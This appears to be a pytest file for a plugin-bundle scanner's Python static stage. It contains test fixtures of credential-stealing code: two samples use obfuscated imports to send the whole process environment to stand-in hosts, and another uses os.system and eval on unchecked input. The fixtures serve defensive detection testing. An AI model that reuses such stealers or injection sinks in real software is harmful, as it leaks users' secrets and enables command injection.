"""Bandit runs in-process on the bundle's Python; `# nosec` inside a bundle is ignored."""

from __future__ import annotations

import json
from pathlib import Path

from scanner.findings import Category, Severity
from scanner.stages.python_static import PythonStaticStage
from scanner.workspace import Workspace
from tests.conftest import manifest


def _workspace(tmp_path: Path, files: dict[str, str], backend: bool = True) -> Workspace:
    root = tmp_path / "b"
    plugin = (
        manifest(backend={"runtime": "python3.11", "entry": "backend/app.py"})
        if backend
        else manifest()
    )
    files = {"plugin.json": json.dumps(plugin), "dist/bundle.js": "var a;", **files}
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    return Workspace.from_directory(root)


def test_bandit_findings_keep_severity_and_confidence(tmp_path: Path) -> None:
    code = "import os\n\ndef run(cmd):\n    os.system('ls ' + cmd)  # nosec\n    return eval(cmd)\n"
    result = PythonStaticStage().run(_workspace(tmp_path, {"backend/app.py": code}))
    by_rule = {f.rule_id: f for f in result.findings}
    assert by_rule["bandit-B605"].severity is Severity.HIGH  # nosec was ignored
    assert by_rule["bandit-B605"].line == 4
    assert by_rule["bandit-B307"].category is Category.BACKEND_CODE
    assert result.coverage.scanned == ["backend/app.py"]
    assert result.raw["bandit"]


def test_unparseable_python_is_a_coverage_gap(tmp_path: Path) -> None:
    result = PythonStaticStage().run(_workspace(tmp_path, {"backend/app.py": "def broken(:\n"}))
    assert [f.category for f in result.findings] == [Category.COVERAGE]
    assert result.coverage.not_scanned[0].path == "backend/app.py"


def test_python_without_a_declared_backend_is_reported(tmp_path: Path) -> None:
    result = PythonStaticStage().run(
        _workspace(tmp_path, {"tools/build.py": "print(1)\n"}, backend=False)
    )
    assert [f.rule_id for f in result.findings] == ["python-undeclared-backend"]


def test_no_python_no_findings(tmp_path: Path) -> None:
    root = tmp_path / "b"
    root.mkdir()
    (root / "a.js").write_text("var a;")
    result = PythonStaticStage().run(Workspace.from_directory(root))
    assert result.findings == [] and result.coverage.scanned == []


REFLECTIVE_STEALER = """
import json
import urllib.request


def sync():
    mod = __import__("o" + "s")
    env = getattr(mod, "".join(["env", "iron"]))
    body = json.dumps(dict(env)).encode()
    req = urllib.request.Request("https://sync.example.test/c", data=body)
    urllib.request.urlopen(req)
"""
HEX_NAMED_STEALER = """
import socket
import importlib

o = importlib.import_module(bytes.fromhex("6f73").decode())
s = socket.create_connection(("203.0.113.9", 443))
s.sendall(repr(o.environ.copy()).encode())
"""
HONEST_BACKEND = """
import os
import requests


def forecast(city):
    key = os.environ["WEATHER_KEY"]
    port = int(os.getenv("PORT", "8000"))
    r = requests.get("https://api.weather.example/v1", params={"q": city, "key": key})
    return {"port": port, "data": r.json(), "debug": os.environ.get("DEBUG")}
"""


def test_environment_sent_through_reflection_is_critical_exfiltration(tmp_path: Path) -> None:
    for code in (REFLECTIVE_STEALER, HEX_NAMED_STEALER):
        result = PythonStaticStage().run(
            _workspace(tmp_path / str(len(code)), {"backend/app.py": code})
        )
        flows = [f for f in result.findings if f.rule_id == "python-secret-exfiltration"]
        assert [(f.category, f.severity) for f in flows] == [
            (Category.EXFILTRATION, Severity.CRITICAL)
        ], code


def test_a_backend_using_its_own_named_settings_is_not_exfiltration(tmp_path: Path) -> None:
    result = PythonStaticStage().run(_workspace(tmp_path, {"backend/app.py": HONEST_BACKEND}))
    assert not [f for f in result.findings if f.rule_id == "python-secret-exfiltration"]
